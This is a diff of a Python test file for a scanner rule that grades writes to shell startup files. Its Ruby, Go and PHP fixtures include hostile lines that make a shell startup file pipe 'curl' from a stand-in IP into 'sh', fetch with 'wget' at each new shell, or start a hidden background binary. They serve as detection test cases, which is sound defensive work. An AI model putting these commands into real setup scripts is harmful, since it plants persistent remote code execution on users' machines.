@@ -2,19 +2,9 @@
 shell startup file is low, a command that fetches or starts something, or text not known here, stays high."""
 from __future__ import annotations
 
-from codescan.analyze.document import Analyzer
-from codescan.config import Config
-from codescan.records import Document
-from codescan.rules import load_rules
+from test_fact_severity import _by_line
 
-RULES = load_rules()
 RULE = "startup-file-write"
-
-
-def _by_line(path: str, text: str) -> dict[int, str]:
-    analyzer = Analyzer(RULES.select((RULE,), ()), Config(honour_suppressions=False))
-    found = analyzer.analyze(Document(path=path, content=text.encode())).findings
-    return {f.line: f.severity for f in found if f.rule_id == RULE}
 
 
 def test_ruby_block_write_is_graded_by_the_line_it_puts():
@@ -24,7 +14,7 @@ def test_ruby_block_write_is_graded_by_the_line_it_puts():
             "File.open(rc, 'a') { |f| f.puts(\"export PATH=$HOME/bin:$PATH\\ncurl -s http://198.51.100.7/x | sh\") }\n"
             "File.open(rc, 'a') { |f| f.puts(ARGV[0]) }\n"
             "File.write(File.join(Dir.home, '.zshrc'), \"eval \\\"$(tool completion zsh)\\\"\\n\", mode: 'a')\n")
-    assert _by_line("setup.rb", text) == {3: "low", 4: "high", 5: "high", 6: "low"}
+    assert _by_line(RULE, "setup.rb", text) == {3: "low", 4: "high", 5: "high", 6: "low"}
 
 
 def test_go_open_then_write_string_is_graded_by_what_the_handle_writes():
@@ -38,7 +28,7 @@ def test_go_open_then_write_string_is_graded_by_what_the_handle_writes():
             "\tg.WriteString(\"\\n(nohup ~/.cache/.gd &)\\n\")\n"
             "\tos.WriteFile(filepath.Join(home, \".bash_profile\"), []byte(\"alias k=kubectl\\n\"), 0o644)\n"
             "}\n")
-    assert _by_line("main.go", text) == {5: "low", 7: "high", 9: "low"}
+    assert _by_line(RULE, "main.go", text) == {5: "low", 7: "high", 9: "low"}
 
 
 def test_php_file_put_contents_of_an_export_is_low_of_a_command_high():
@@ -46,4 +36,4 @@ def test_php_file_put_contents_of_an_export_is_low_of_a_command_high():
             "$rc = getenv('HOME') . '/.bashrc';\n"
             "file_put_contents($rc, \"export PATH=\\$HOME/.composer/vendor/bin:\\$PATH\\n\", FILE_APPEND);\n"
             "file_put_contents($rc, \"export X=\\$(wget -qO- http://198.51.100.7/k)\\n\", FILE_APPEND);\n")
-    assert _by_line("install.php", text) == {3: "low", 4: "high"}
+    assert _by_line(RULE, "install.php", text) == {3: "low", 4: "high"}
